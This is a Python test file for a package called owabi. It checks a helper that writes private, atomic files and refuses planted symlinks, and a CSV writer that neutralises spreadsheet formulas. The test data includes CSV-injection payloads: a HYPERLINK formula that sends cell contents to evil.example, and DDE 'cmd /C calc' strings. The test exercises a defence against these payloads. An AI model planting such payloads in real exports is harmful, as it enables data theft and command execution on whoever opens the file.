"""The one helper for files owabi writes: 0600 in 0700 folders whatever the umask, whole or not at all,
never through a planted link; and the one csv writer, which neutralises formulas. A scan of the package
keeps every file and CSV owabi writes going through them."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from owabi.core.files import csv_writer, neutralize, open_private, private_dir, write_private
from tests.conftest import REPO

PACKAGE = REPO / "owabi"
HELPER = PACKAGE / "core" / "files.py"


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_new_files_are_0600_in_new_0700_folders_whatever_the_umask(tmp_path: Path, open_umask) -> None:
    whole = tmp_path / "a" / "b" / "whole.csv"
    with write_private(whole) as handle:
        handle.write("x\n")
    appended = tmp_path / "c" / "log"
    with open_private(appended, "ab") as handle:
        handle.write(b"one\n")
    with open_private(appended, "ab") as handle:
        handle.write(b"two\n")
    assert appended.read_bytes() == b"one\ntwo\n"
    assert {_mode(whole), _mode(appended)} == {0o600}
    assert {_mode(tmp_path / "a"), _mode(tmp_path / "a" / "b"), _mode(tmp_path / "c")} == {0o700}


def test_an_existing_folder_is_left_as_the_operator_made_it(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o750)
    shared.chmod(0o750)
    with write_private(shared / "out.csv") as handle:
        handle.write("x\n")
    assert _mode(shared) == 0o750
    assert _mode(shared / "out.csv") == 0o600


def test_an_existing_readable_file_becomes_private_when_rewritten(tmp_path: Path) -> None:
    for write in (lambda p: write_private(p), lambda p: open_private(p)):
        path = tmp_path / "old.csv"
        path.write_text("old\n")
        path.chmod(0o644)
        with write(path) as handle:
            handle.write("new\n")
        assert path.read_text() == "new\n"
        assert _mode(path) == 0o600


def test_a_failed_write_leaves_the_old_file_and_no_half_one(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("complete\n")
    with pytest.raises(RuntimeError), write_private(path) as handle:
        handle.write("half")
        raise RuntimeError("killed half-way")
    assert path.read_text() == "complete\n"
    with pytest.raises(RuntimeError), write_private(tmp_path / "new.csv") as handle:
        handle.write("half")
        raise RuntimeError("killed half-way")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_a_link_planted_at_the_name_is_never_written_through(tmp_path: Path) -> None:
    target = tmp_path / "victim"
    target.write_text("keep\n")
    link = tmp_path / "report.csv"
    link.symlink_to(target)
    with pytest.raises(OSError), open_private(link):
        pass
    with write_private(link) as handle:  # the link itself is replaced by the new file
        handle.write("report\n")
    assert target.read_text() == "keep\n"
    assert not link.is_symlink() and link.read_text() == "report\n"


def test_a_file_where_a_folder_should_be_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(OSError):
        private_dir(tmp_path / "file")
    with pytest.raises(OSError):
        private_dir(tmp_path / "file" / "below")


def test_only_writing_modes_are_taken(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="writes only"):
        open_private(tmp_path / "x", "r")
    with pytest.raises(ValueError, match="whole files"), write_private(tmp_path / "x", "a"):
        pass


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "-1",
        "+81 90-1234-5678",
    ],
)
def test_text_that_starts_a_formula_is_written_as_text(value: str) -> None:
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerow(["A1", value, 7])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == ["A1", "'" + value, "7"]


@pytest.mark.parametrize("value", ["山田 太郎", "S3", "L000000123", "a=b", "x-1", "'quoted", ""])
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert neutralize(value) == value


def test_numbers_owabi_computes_are_written_as_they_are() -> None:
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerows([[-1, 2.5, None]])
    assert buffer.getvalue() == "-1,2.5,\r\n"


def test_a_verbatim_writer_writes_what_it_is_given() -> None:
    buffer = io.StringIO(newline="")
    csv_writer(buffer, lineterminator="\n", verbatim=True).writerow(["+81 90-1234-5678"])
    assert buffer.getvalue() == "+81 90-1234-5678\n"


# The package's only file writers are the helper and what it hands out; these callers alone may write
# CSV verbatim (every value made up by owabi: see owabi.core.files.csv_writer).
VERBATIM_CALLERS = {"owabi/demo/synth.py"}
WRITE_MODE = ("w", "a", "x", "+")


def _writes_a_file(call: ast.Call) -> str | None:
    """What in `call` writes a file or a CSV behind the helper's back, if anything."""
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
    owner = func.value.id if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) else ""
    if owner == "csv" and name in ("writer", "DictWriter"):
        return f"csv.{name}("
    if owner == "os" and name in ("open", "fdopen", "mkdir", "makedirs", "replace", "rename"):
        return f"os.{name}("
    if name in ("write_text", "write_bytes", "mkdir", "touch", "mkstemp", "NamedTemporaryFile"):
        return f"{name}("
    if name == "open":  # builtin open(file, mode) or Path.open(mode)
        args = call.args[1:] if isinstance(func, ast.Name) else call.args
        modes = [*args[:1], *(k.value for k in call.keywords if k.arg == "mode")]
        for mode in modes:
            if isinstance(mode, ast.Constant) and any(c in str(mode.value) for c in WRITE_MODE):
                return "open(…, writing mode)"
    return None


def test_every_file_and_csv_owabi_writes_goes_through_the_helper() -> None:
    offences, verbatim = [], set()
    for path in sorted(PACKAGE.rglob("*.py")):
        if path == HELPER:
            continue
        where = path.relative_to(REPO).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                offences += [f"{where}:{node.lineno} from csv import {a.name}" for a in node.names]
            if not isinstance(node, ast.Call):
                continue
            what = _writes_a_file(node)
            if what:
                offences.append(f"{where}:{node.lineno} {what}")
            if any(k.arg == "verbatim" for k in node.keywords):
                verbatim.add(where)
    assert offences == [], "write files through owabi.core.files (0600, atomic, formula-safe CSV)"
    assert verbatim == VERBATIM_CALLERS
